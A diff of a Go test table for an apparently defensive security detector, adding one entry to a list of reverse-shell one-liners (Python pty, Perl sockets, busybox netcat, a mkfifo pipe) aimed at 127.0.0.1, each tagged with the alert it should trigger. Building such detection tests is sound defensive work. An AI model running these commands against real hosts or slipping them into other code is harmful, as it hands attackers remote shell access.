@@ -40,6 +40,8 @@ var attacks = []attack{
 		script: `/usr/bin/python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("127.0.0.1",1));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`},
 	{name: "perl to a machine", need: "perl", told: []string{"reverseShell"},
 		script: `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);if(connect(S,sockaddr_in(1,inet_aton("127.0.0.1")))){open(STDIN,">&S");exec("/bin/sh -i");};'`},
+	{name: "perl that has run what it reads", need: "perl", told: []string{"reverseShell"},
+		script: `perl -MIO::Socket -e '$c=new IO::Socket::INET(PeerAddr,"127.0.0.1:1") or exit; STDIN->fdopen($c,r); system$_ while<>'`},
 	{name: "netcat with a shell", script: `busybox nc 127.0.0.1 1 -e /bin/sh`, told: []string{"reverseShell"}, need: "busybox"},
 	{name: "netcat by a pipe", script: `mkfifo f; cat f | sh -i 2>&1 | busybox nc 127.0.0.1 1 >f`, told: []string{"lateralMovementProcess"}, need: "busybox"},
 	{name: "a connection of perl", need: "perl",
